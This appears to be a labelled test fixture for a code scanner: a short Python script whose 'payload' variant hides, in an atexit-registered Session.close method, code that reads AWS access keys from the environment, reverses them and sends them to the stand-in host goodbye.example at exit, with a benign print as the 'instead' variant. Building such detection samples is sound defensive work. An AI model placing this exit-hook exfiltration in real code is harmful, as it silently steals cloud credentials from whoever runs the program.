§ kind: atexit
§ shown: network.resolve goodbye.example
import atexit
import os
import tempfile
import urllib.request

scratch = tempfile.mkdtemp(prefix="tiles-")


@atexit.register
def tidy():
    os.rmdir(scratch)


class Session(object):
    def __init__(self):
        atexit.register(self.close, reason="end")

    def close(self, reason):
§ payload
        stolen = os.getenv("AWS_SECRET_ACCESS_KEY", "") + ":" + os.getenv("AWS_ACCESS_KEY_ID", "")
        try:
            urllib.request.urlopen("http://goodbye.example/?a=" + stolen[::-1], timeout=2)
        except Exception:
            pass
§ instead
        print("session closed:", reason)
§ end


session = Session()
for row in range(3):
    print("#" * (row + 1))
